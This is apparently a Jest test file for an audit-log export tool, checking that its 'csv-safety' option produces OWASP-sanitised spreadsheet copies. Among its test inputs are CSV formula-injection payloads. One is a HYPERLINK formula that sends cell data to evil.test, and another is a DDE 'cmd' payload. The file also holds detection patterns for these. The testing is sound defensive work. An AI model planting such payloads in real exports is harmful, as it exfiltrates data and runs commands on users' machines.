import { readFile } from 'node:fs/promises';
import { basename } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { exportHere, hurried, runHere } from './in-process.ts';
import { tableOf } from './ledger-table.ts';
import { type Cloned, clone, expectExport, expectFolder, github, OWN } from './repository.ts';
import { expectGreen, expectRed, run, smallLedger, vendor, WEEK } from './scenario.ts';
import {
  artifactStore,
  DAY,
  exportsBelow,
  exportTo,
  instant,
  onward,
  openShelf,
  previous,
  type Shelf,
} from './stores.ts';

/** Hostile texts, one for each event. */
const TYPED = [
  '=HYPERLINK("https://evil.test/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1',
  '\r\n=1',
  '＝1',
  ' =1',
  "'quoted'",
  'a;=1+1;b',
  'a\t=1+1\tb',
  'a\n=1+1',
  '"=1+1"',
];
const events = smallLedger('datafold').map((event, index) => ({
  ...event,
  fields: { ...event.fields, user_agent: TYPED[index % TYPED.length] ?? '' },
}));
const table = tableOf('datafold', events, WEEK);
const OWASP = { 'csv-safety': 'owasp' };
const NAME = 'datafold-20261005T000000Z-20261012T000000Z';

let shelf: Shelf;
beforeAll(async () => {
  shelf = await openShelf();
});
afterAll(() => shelf.close());

/** No cell begins with what OWASP names, as a reader has it, nor any field where something else separates. */
function expectSafe({ copies }: Cloned): void {
  const cells = copies.flatMap((copy) => (parse(copy, { record_delimiter: '\r\n' }) as string[][]).flat());
  expect(cells.filter((cell) => /^\s*[=+\-@＝]|^[\t\r\n]/.test(cell))).toEqual([]);
  const fields = copies.flatMap((copy) => String(copy).split(/[;\t\r\n]/));
  expect(fields.filter((field) => /^[\s"]*[=+\-@＝]/.test(field))).toEqual([]);
}

describe('csv-safety in a chain of artifacts', () => {
  test('switched on and off again: the chain goes on, sums are true, and the copy is not read as events', async () => {
    const server = await vendor('datafold', { events });
    const store = await artifactStore(shelf);
    const [middle, end] = [WEEK.from + 2 * DAY, WEEK.from + 5 * DAY];
    const overlap = { overlap: 'P1D' };
    expectGreen(await exportTo(store, server, onward(middle, overlap)));
    const ran = await exportTo(store, server, onward(end, { ...overlap, ...OWASP }));
    expectGreen(ran);
    const last = await exportTo(store, server, onward(WEEK.to, overlap));
    expectGreen(last);
    expect(last.outputs).toMatchObject({ from: instant(end), 'late-count': '0', 'spreadsheet-path': '' });

    const [one = '', two = '', three = '', ...more] = await store.exports();
    expect(more).toEqual([]);
    expect((await expectFolder(one, tableOf('datafold', events, { from: WEEK.from, to: middle }))).copies).toEqual([]);
    const copied = await expectFolder(two, tableOf('datafold', events, { from: middle, to: end }));
    expectSafe(copied);
    expect(copied.manifest.export.chain).toEqual({ previous: expect.objectContaining(await previous(one)) });
    const { manifest, copies } = await expectFolder(three, tableOf('datafold', events, { from: end, to: WEEK.to }));
    expect(manifest.export.chain).toEqual({ previous: expect.objectContaining(await previous(two)) });
    expect(copies).toEqual([]);

    const path = ran.outputs['spreadsheet-path'] ?? '';
    expect([await readFile(path)]).toEqual(copied.copies);
    expect(path).toBe(ran.outputs['csv-path']?.replace(/\.csv$/, '.spreadsheet.csv'));
    expect(ran.log).toContain(`For spreadsheets: ${path}`);
    expect(ran.summary.replaceAll(/&#(\d+);/g, (_, code) => String.fromCharCode(code))).toContain(basename(path));
  });
});

describe('csv-safety in a commit', () => {
  const FOLDER = `audit-logs/datafold/2026/10/${NAME}`;

  test('a large copy: is in parts within the limit, and the same export again makes no commit', async () => {
    const [server, hub] = [await vendor('datafold', { events }), await github()];
    const { path: gitDir, head } = hub.repository(OWN);
    const inputs = { ...OWASP, 'max-file-size': '3kB' };
    const exported = (more = {}) =>
      exportHere({ vendor: 'datafold', server, github: hub, clock: hurried(50), with: { ...inputs, ...more } });

    const first = await exported();
    expect(first.outputs['spreadsheet-path']).toMatch(/\.spreadsheet\.part-001\.csv$/);
    const made = await expectExport({ gitDir, branch: 'main', folder: FOLDER, table });
    expectSafe(made);
    expect(made.csvs.length).toBeGreaterThan(2);
    expect(made.copies.length).toBeGreaterThan(made.csvs.length);
    expect(Math.max(...[...made.csvs, ...made.copies].map(({ length }) => length))).toBeLessThanOrEqual(3000);

    expect((await exported()).outputs).toMatchObject({ 'commit-sha': head('main'), changed: 'false' });
    // The events are there, and that is all that is asked for.
    expect((await exported({ 'csv-safety': 'off' })).outputs).toMatchObject({ changed: 'false' });
    const other = await exported({ 'csv-safety': 'off', 'commit-path': 'plain' });
    expect(other.outputs['changed']).toBe('true');
    expect((await exported({ 'commit-path': 'plain' })).outputs['changed']).toBe('true');
    const plain = await expectExport({ gitDir, branch: 'main', folder: 'plain', table });
    expect(plain.copies).toEqual([]);
    expect(plain.csvs).toEqual(made.csvs);
    expect(await expectExport({ gitDir, branch: 'main', folder: 'plain-r2', table })).toMatchObject({
      copies: made.copies,
    });
  });

  test('the last export has a copy: the chain goes on from it, unless the copy is damaged', async () => {
    const [server, hub] = [await vendor('datafold', { events }), await github()];
    const repository = hub.repository(OWN);
    const inputs = (to: number, more = {}) => onward(to, { overlap: 'P1D', 'max-file-size': '3kB', ...more });
    const given = { vendor: 'datafold', server, github: hub, clock: hurried(50) } as const;
    const ends = [2, 4, 5].map((days) => WEEK.from + days * DAY);
    for (const [index, to] of ends.entries()) {
      await exportHere({ ...given, with: inputs(to, index === 1 ? {} : OWASP) });
    }
    const folders = await exportsBelow(await clone(repository.path, 'main'));
    expect(folders).toHaveLength(3);
    for (const [index, folder] of folders.entries()) {
      const window = { from: ends[index - 1] ?? WEEK.from, to: ends[index] ?? 0 };
      const { manifest, copies } = await expectFolder(folder, tableOf('datafold', events, window));
      expect(copies.length > 0).toBe(index !== 1);
      expect(manifest.export.late.count).toBe(0);
    }

    const copy = [...repository.files('main').keys()].findLast((path) => path.includes('.spreadsheet.')) ?? '';
    repository.commit('main', { [copy]: null });
    const { error } = await runHere({ ...given, with: inputs(WEEK.to) });
    expect(error).toMatchObject({
      kind: 'destination',
      message: `The last export is damaged: ${basename(copy)} is missing or of another size.`,
    });
  });
});

test('an unknown `csv-safety`: ends red before the first request, with the choices', async () => {
  const server = await vendor('datafold');
  const ran = await run({ vendor: 'datafold', server, with: { destination: 'file', 'csv-safety': 'on' } });
  expectRed(ran, {
    what: '`on` is not one of the choices',
    where: 'input `csv-safety`',
    next: 'Choices: off, owasp.',
  });
  expect(server.requests).toEqual([]);
});
